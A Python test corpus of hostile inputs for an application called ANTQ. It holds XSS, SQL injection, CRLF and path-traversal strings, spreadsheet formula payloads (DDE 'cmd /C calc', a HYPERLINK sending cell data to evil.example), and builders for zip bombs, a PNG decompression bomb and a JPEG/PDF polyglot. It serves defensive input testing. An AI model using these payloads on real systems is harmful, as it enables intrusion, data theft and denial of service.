"""A shared corpus of hostile inputs, for every gate that feeds user input to ANTQ.

``STRINGS`` are texts a person (or a robot) may type or paste into any field; ``RAW_BYTES``
are bodies that are not even valid UTF-8; the ``*_file()`` functions build hostile uploads in
memory (a zip bomb is a few hundred kilobytes here, hundreds of megabytes once inflated).

Import it from any test: ``from tests.gates.corpus import STRINGS, by_name, upload_files``.
"""

from __future__ import annotations

import functools
import io
import struct
import unicodedata
import zlib
from dataclasses import dataclass

# -- strings -------------------------------------------------------------------------------


@dataclass(frozen=True)
class Hostile:
    """One hostile text. ``marker`` is a piece of it that must never appear unescaped in a page
    (``None`` when the text holds no markup); ``escaped`` is how an escaping template shows it."""

    name: str
    value: str
    marker: str | None = None
    escaped: str | None = None
    # Short enough to fit every free-text field: a form that accepts it must store it whole.
    fits: bool = True


SCRIPT = '<script>alert("antq-xss")</script>'
IMG = '"><img src=x onerror=alert(8)>'

STRINGS: tuple[Hostile, ...] = (
    Hostile("html_script", SCRIPT, "<script>alert(", "&lt;script&gt;alert("),
    Hostile("html_img_attr", IMG, "<img src=x onerror", "&lt;img src=x onerror"),
    Hostile("html_single_quote_attr", "x' onmouseover='alert(8)' y='", "' onmouseover='alert"),
    Hostile("html_comment_break", "--><svg/onload=alert(8)><!--", "<svg/onload", "&lt;svg/onload"),
    Hostile("js_url", "javascript:alert(document.cookie)"),
    Hostile("django_template", "{{ 7|add:42 }} {% now 'Y' %} {{ settings.SECRET_KEY }}"),
    Hostile("sql_quote", "Robert'); DROP TABLE registry_unit;--"),
    Hostile("sql_union", "' OR '1'='1' UNION SELECT password FROM accounts_user --"),
    Hostile("sql_like_wildcards", "100% _x_ \\ [a-z] ^$ .*"),
    Hostile("nul_byte", "Trước\x00sau có NUL"),
    Hostile("control_chars", "Chữ\x01\x07\x08\x1b[31m đỏ\x7f\x0b\x0c"),
    Hostile(
        "nfd_vietnamese", unicodedata.normalize("NFD", "Trường THPT Nguyễn Trãi, phố Hàng Bạc")
    ),
    Hostile("rtl_override", "Ảnh \u202egpj.exe\u202c của tôi \u200fđây\u200e"),
    Hostile("zero_width", "Tên\u200bđơn\u200dvị\ufeff\u2060ẩn"),
    Hostile("formula_hyperlink", '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào")'),
    Hostile("formula_dde", "=cmd|' /C calc'!A0"),
    Hostile("formula_plus", "+1+cmd|' /C calc'!A0"),
    Hostile("formula_minus", "-2+3+cmd|' /C calc'!A0"),
    Hostile("formula_at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Hostile("formula_tab", "\t=1+1"),
    Hostile("crlf_header", "Dòng một\r\nSet-Cookie: antq=1\r\n\r\nDòng ba"),
    Hostile("path_traversal", "../../../../etc/passwd"),
    Hostile("astral_emoji", "Cướp giật 🚨🔪 tại ngõ 𠀀 𝕏"),
    Hostile("whitespace_only", " \t\u00a0\u3000 \n "),
    Hostile("long_word", "Ư" * 20_000, fits=False),
    Hostile("very_long", "Nội dung <b>rất</b> dài. " * 8_000, "<b>rất</b>", fits=False),
)

# The strings sent to every secondary field (one of each family); the main text fields get all.
SUBSET_NAMES = (
    "html_script",
    "html_img_attr",
    "sql_quote",
    "nul_byte",
    "nfd_vietnamese",
    "rtl_override",
    "formula_dde",
    "very_long",
)
SUBSET: tuple[Hostile, ...] = tuple(s for s in STRINGS if s.name in SUBSET_NAMES)

# Form bodies that are not UTF-8: a browser never sends them, a robot does.
RAW_BYTES: dict[str, bytes] = {
    "invalid_utf8": b"T\xean \xc3\x28 \xa0\xa1 \xf0\x28\x8c\x28 \xed\xa0\x80 cu\xe1\xbb",
    "overlong_slash": b"\xc0\xaf\xe0\x80\xaf..\xc0\xaf",
}

# Only a JSON body can carry this (a lone surrogate: not a character of any encoding).
LONE_SURROGATE_JSON = '"Tên \\ud800 lẻ"'


def by_name(name: str) -> Hostile:
    return next(s for s in STRINGS if s.name == name)


FORMULA_NAMES = tuple(s.name for s in STRINGS if s.name.startswith("formula_"))


# -- files -------------------------------------------------------------------------------


_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    b'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.spreadsheetml.sheet.main+xml"/>'
    b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.'
    b'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
_ROOT_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    b'<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)
_SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)


def _bomb_member(inflated_mb: int, fill: bytes, head: bytes = b"") -> tuple[bytes, int, int]:
    """(raw deflate stream, CRC-32, size) of ``head`` then ``inflated_mb`` MiB of ``fill``,
    built from one compressed MiB repeated: each block is fully flushed, so the copies are
    independent and building a 300 MiB bomb costs one MiB of compression."""
    mib = (fill * ((1 << 20) // len(fill) + 1))[: 1 << 20]
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH) if head else b""
    block = compressor.compress(mib) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail = compressor.flush(zlib.Z_FINISH)
    crc = zlib.crc32(head)
    for _ in range(inflated_mb):
        crc = zlib.crc32(mib, crc)
    return start + block * inflated_mb + tail, crc, len(head) + (inflated_mb << 20)


def _write_zip(members: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A zip archive of (name, deflated data, crc, inflated size, declared size) members,
    written by hand so that a member may declare a size it does not have."""
    out = io.BytesIO()
    central = []
    for name, data, crc, _size, declared in members:
        offset = out.tell()
        encoded = name.encode()
        out.write(
            struct.pack(
                "<IHHHHHIIIHH",
                0x04034B50,
                20,
                0,
                8,
                0,
                0x21,
                crc,
                len(data),
                declared,
                len(encoded),
                0,
            )
        )
        out.write(encoded)
        out.write(data)
        central.append(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                8,
                0,
                0x21,
                crc,
                len(data),
                declared,
                len(encoded),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + encoded
        )
    start = out.tell()
    for entry in central:
        out.write(entry)
    size = out.tell() - start
    out.write(
        struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), size, start, 0)
    )
    return out.getvalue()


def _small(name: str, data: bytes) -> tuple[str, bytes, int, int, int]:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    deflated = compressor.compress(data) + compressor.flush()
    return name, deflated, zlib.crc32(data), len(data), len(data)


def _xlsx_with_sheet(sheet: tuple[bytes, int, int], *, declared: int | None = None) -> bytes:
    data, crc, size = sheet
    return _write_zip(
        [
            _small("[Content_Types].xml", _CONTENT_TYPES),
            _small("_rels/.rels", _ROOT_RELS),
            _small("xl/workbook.xml", _WORKBOOK),
            _small("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS),
            ("xl/worksheets/sheet1.xml", data, crc, size, size if declared is None else declared),
        ]
    )


@functools.cache
def zip_bomb_xlsx(inflated_mb: int = 300) -> bytes:
    """A well-formed .xlsx whose one sheet inflates to ``inflated_mb`` MiB of zeros (≈ 300 KB
    on disk for 300 MiB). The sizes it declares are true."""
    return _xlsx_with_sheet(_bomb_member(inflated_mb, b"\x00"))


@functools.cache
def lying_zip_bomb_xlsx(inflated_mb: int = 300) -> bytes:
    """The same bomb, but its sheet declares 1 KB: a reader that trusts the declaration and
    inflates on must stop at 1 KB (and notice the lie), never at 300 MiB."""
    return _xlsx_with_sheet(_bomb_member(inflated_mb, b"\x00"), declared=1024)


@functools.cache
def whitespace_bomb_xlsx(inflated_mb: int = 200) -> bytes:
    """A sheet of valid XML under the unpacked-size limit: its head, then ``inflated_mb`` MiB
    of spaces before the first row. It parses, slowly: the time bomb a size check misses."""
    return _xlsx_with_sheet(_bomb_member(inflated_mb, b" ", head=_SHEET_HEAD))


IMPORT_HEADERS = ("Tên đơn vị", "Loại hình", "Xã, phường", "Ghi chú")


def formula_xlsx() -> bytes:
    """An import file whose cells are formulas (``=HYPERLINK``, DDE) and texts that start with
    ``= + - @``: a spreadsheet would run them if they came back out unneutralised."""
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(list(IMPORT_HEADERS))
    # Real formulas (no cached value): what a reader sees is empty, or the formula text.
    sheet.append(['=HYPERLINK("http://evil.example","Bấm")', "Bệnh viện", "Phường Hoàn Kiếm", "x"])
    sheet.append(["=cmd|' /C calc'!A0", "Bệnh viện", "Phường Hoàn Kiếm", "=1+1"])
    # Texts that look like formulas, stored as strings in the file.
    for row, value in enumerate(
        ['=HYPERLINK("http://evil.example")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"],
        start=4,
    ):
        sheet.append([f"{value} đơn vị {row}", "Bệnh viện", "Phường Hoàn Kiếm", value])
        for col in (1, 4):
            cell = sheet.cell(row=row, column=col)
            cell.data_type = "s"
    sheet.append([SCRIPT, "Bệnh viện", "Phường Hoàn Kiếm", IMG])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def formula_csv() -> bytes:
    """The same payloads in a CSV (UTF-8 with BOM, as Excel writes it)."""
    lines = [",".join(f'"{h}"' for h in IMPORT_HEADERS)]
    for value in [
        '=HYPERLINK(""http://evil.example"")',
        "=cmd|' /C calc'!A0",
        "+1",
        "-2+3",
        "@SUM(1+1)",
    ]:
        lines.append(f'"{value} csv","Bệnh viện","Phường Hoàn Kiếm","{value}"')
    lines.append(f'"{SCRIPT.replace(chr(34), chr(34) * 2)}","Bệnh viện","Phường Hoàn Kiếm",""')
    lines.append('"Trước\x00sau NUL","Bệnh viện","Phường Hoàn Kiếm","\u202egpj.exe"')
    return ("\r\n".join(lines) + "\r\n").encode("utf-8-sig")


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_file(width: int, height: int, *, rgba: bool = False) -> bytes:
    """A black PNG of any size, built row by row (a 60 MP image is ≈ 200 KB)."""
    channels = 4 if rgba else 3
    compressor = zlib.compressobj(9)
    row = b"\x00" + bytes(width * channels)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 6 if rgba else 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def png_decompression_bomb() -> bytes:
    """A PNG that declares 100,000 × 100,000 pixels (30 GB decoded) in a few bytes."""
    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    compressor = zlib.compressobj(9)
    idat = compressor.compress(b"\x00" * 300_001) + compressor.flush()
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", idat)


def jpeg_file() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 30, 30)).save(out, "JPEG")
    return out.getvalue()


PDF_JS = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    b"3 0 obj<</S/JavaScript/JS(app.alert('antq-pdf'))>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)


def jpeg_pdf_polyglot() -> bytes:
    """A real JPEG with a PDF (with JavaScript) after its end: a viewer may open either."""
    return jpeg_file() + PDF_JS


HTML_PAGE = b"<!doctype html><html><body><script>alert('antq-upload')</script></body></html>"
SVG_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
)
INVALID_UTF8_CSV = (
    "Tên đơn vị,Loại hình,Xã, phường\n".encode()
    + b"Tr\xean \xc3\x28 Ph\xfa,B\xe9nh vi\xean,Ph\xb8\xeang Ho\xe0n Ki\xc5m\n"
)


@dataclass(frozen=True)
class HostileFile:
    name: str
    filename: str
    content: bytes
    content_type: str = "application/octet-stream"


def upload_files() -> tuple[HostileFile, ...]:
    """Hostile uploads for any file field (import and attachments alike)."""
    return (
        HostileFile("zip_bomb_xlsx", "don-vi.xlsx", zip_bomb_xlsx()),
        HostileFile("lying_zip_bomb_xlsx", "don-vi.xlsx", lying_zip_bomb_xlsx()),
        HostileFile("formula_xlsx", "cong-thuc.xlsx", formula_xlsx()),
        HostileFile("jpeg_pdf_polyglot", "anh.jpg", jpeg_pdf_polyglot(), "image/jpeg"),
        HostileFile("pdf_javascript", "bien-ban.pdf", PDF_JS, "application/pdf"),
        HostileFile("png_decompression_bomb", "anh.png", png_decompression_bomb(), "image/png"),
        HostileFile("html_named_jpg", "anh.jpg", HTML_PAGE, "image/jpeg"),
        HostileFile("svg_named_png", "anh.png", SVG_SCRIPT, "image/png"),
        HostileFile("html_named_xlsx", "don-vi.xlsx", HTML_PAGE),
        HostileFile("invalid_utf8_csv", "don-vi.csv", INVALID_UTF8_CSV, "text/csv"),
        HostileFile("empty", "rong.csv", b"", "text/csv"),
        HostileFile("empty_jpg", "rong.jpg", b"", "image/jpeg"),
        HostileFile("hostile_filename", f"{SCRIPT}\u202egpj.exe", jpeg_file(), "image/jpeg"),
    )
